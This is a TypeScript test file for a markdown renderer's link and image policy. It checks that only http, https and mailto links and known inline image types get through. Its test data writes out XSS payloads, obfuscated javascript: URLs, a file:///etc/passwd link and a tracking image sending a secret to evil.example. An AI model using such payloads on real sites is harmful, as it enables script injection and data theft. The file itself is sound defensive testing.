import { describe, expect, it } from 'vitest'

import type { FakeNode } from '../../testing/fake-document.ts'
import { rig } from '../../testing/streaming.ts'
import { strictLinks } from './link-policy.ts'

describe('links', () => {
  it.each([
    ['https://a.example/b?c#d', 'https://a.example/b?c#d', 'a.example'],
    ['HTTP://A.example:8080', 'http://a.example:8080/', 'a.example:8080'],
    ['https://аpple.com', 'https://xn--pple-43d.com/', 'xn--pple-43d.com'],
    ['mailto:a@b.example', 'mailto:a@b.example', 'a@b.example'],
  ])('lets %s through and names its host', (source, href, host) => {
    const link = strictLinks.link(source, '')
    expect(link).toMatchObject({ href, host })
    expect(link?.title).toContain(host)
  })

  it.each([
    'javascript:alert(1)',
    'java\nscript:alert(1)',
    ' javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    'blob:https://a.example/1',
    'ftp://a.example',
    'https://a.example@evil.example/',
    'https://user:pass@a.example/',
    '/path',
    '//a.example',
    '#fragment',
    '',
    'https://',
  ])('refuses %j', (source) => {
    expect(strictLinks.link(source, '')).toBeNull()
  })
})

describe('images', () => {
  it('are never loaded from an address, only offered', () => {
    expect(strictLinks.image('https://a.example/b.png', '')).toMatchObject({
      kind: 'button',
      url: 'https://a.example/b.png',
      label: 'Load image from a.example',
    })
  })

  it('are shown when their bytes are in the text and of a known type', () => {
    const src = 'data:image/png;base64,iVBORw0KGgo='
    expect(strictLinks.image(src, '')).toEqual({ kind: 'inline', src })
  })

  it.each([
    'data:image/svg+xml;base64,PHN2Zz4=',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:text/html;base64,PHN2Zz4=',
    'javascript:alert(1)',
    'mailto:a@b.example',
    '/x.png',
    `data:image/png;base64,${'A'.repeat(12 * 1024 * 1024)}`,
  ])('are only words when they are neither', (src) => {
    expect(strictLinks.image(src, '')).toEqual({ kind: 'text' })
  })
})

const tags = new Set(
  'p a br hr em strong s code pre ul ol li blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr th td div span button input img #text'.split(
    ' ',
  ),
)
const attributes = new Set(
  'class href title target rel start type disabled checked aria-label role tabindex data-url src alt'.split(
    ' ',
  ),
)

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](&#x6A&#x61vascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x] ![x]',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](https://evil.example/?q=secret)',
  '![x][y]\n\n[y]: https://evil.example/pixel.gif',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example@evil.example)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '<svg/onload=alert(1)>',
  '<style>*{}</style><link rel=preconnect href=//evil.example>',
  'https://a.example/"onmouseover="alert(1)',
]

describe('hostile text', () => {
  it.each(hostile)('makes only known elements and attributes: %j', (source) => {
    const made = rig({ links: strictLinks })
    made.view.append(source)
    made.view.finish()
    made.settle()
    expect(walk(made.node).flatMap(strange)).toEqual([])
  })
})

/** What in a node must never be there. */
function strange(node: FakeNode): string[] {
  const found = Object.entries(node.attributes).filter(([name, value]) => {
    if (name === 'href' || name === 'data-url') return !/^(https?:\/\/|mailto:)/.test(value)
    if (name === 'src') return !/^data:image\/(png|jpeg|webp|gif);base64,/.test(value)
    return !attributes.has(name)
  })
  return [...found.map(String), ...(tags.has(node.tag) ? [] : [node.tag])]
}

function walk(node: FakeNode): FakeNode[] {
  return node.childNodes.flatMap((child) => [child, ...walk(child)])
}
